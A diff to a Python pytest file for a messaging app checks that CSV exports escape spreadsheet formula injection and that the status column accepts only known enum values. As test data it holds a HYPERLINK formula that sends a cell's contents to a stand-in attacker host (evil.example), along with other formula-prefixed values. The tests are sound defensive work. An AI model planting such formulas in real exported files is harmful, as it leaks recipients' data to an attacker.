@@ -9,10 +9,11 @@ from datetime import UTC, datetime, timedelta
 
 import pytest
 from sqlalchemy import func, select
+from sqlalchemy.exc import StatementError
 from sqlalchemy.orm import Session
 
 from botapp.cli import main
-from botapp.models import AuditEvent, Client, Direction, Message, Office
+from botapp.models import AuditEvent, Client, Direction, Message, MessageStatus, Office
 
 HEADER = "external_id,first_name,last_name,phone,language,timezone,specialist_email\n"
 ALEX = "+13125550142"  # demo client DEMO-1001
@@ -324,7 +325,7 @@ def test_no_csv_column_can_run_as_a_spreadsheet_formula(runner, texts):
     texts.execute(
         Message.__table__.update()
         .where(Message.twilio_sid == "SM2")
-        .values(message_key="@SUM(1)", error_code="-2+3", status="\tdelivered")
+        .values(message_key="@SUM(1)", error_code="-2+3", encoding="\tgsm7")
     )
     texts.commit()
     result = export(runner, "--client", ALEX)
@@ -332,14 +333,27 @@ def test_no_csv_column_can_run_as_a_spreadsheet_formula(runner, texts):
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
     assert rows[0]["body"] == '\'=HYPERLINK("http://x")'
     assert rows[0]["client_external_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
-    assert (rows[1]["message_key"], rows[1]["error_code"], rows[1]["status"]) == (
+    assert (rows[1]["message_key"], rows[1]["error_code"], rows[1]["encoding"]) == (
         "'@SUM(1)",
         "'-2+3",
-        "'\tdelivered",
+        "'\tgsm7",
     )
     formula = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
     unguarded = {cell for row in rows for cell in row.values() if cell.startswith(formula)}
     assert unguarded == {ALEX}  # a plain number (the phone) cannot run, and stays E.164
+
+
+def test_a_status_is_one_botapp_knows_so_no_formula_can_be_stored_in_it(texts):
+    with pytest.raises(StatementError, match="is not among the defined enum values"):
+        texts.execute(
+            Message.__table__.update()
+            .where(Message.twilio_sid == "SM2")
+            .values(status="\tdelivered")
+        )
+    texts.rollback()
+    assert texts.scalars(select(Message.status).where(Message.twilio_sid == "SM2")).one() in set(
+        MessageStatus
+    )
 
 
 def test_an_unknown_or_malformed_client_phone_is_a_clear_error(runner, texts):
